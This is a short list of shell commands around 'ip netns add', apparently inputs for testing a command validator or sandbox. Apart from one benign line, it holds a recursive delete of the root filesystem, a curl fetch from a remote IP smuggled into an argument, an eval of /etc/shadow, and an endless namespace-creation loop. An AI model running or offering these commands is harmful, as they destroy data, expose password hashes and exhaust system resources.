ip netns add ok
rm -rf /
ip netns add $(curl -s http://198.51.100.1/name)
eval "$(cat /etc/shadow)"
while :; do ip netns add again; done
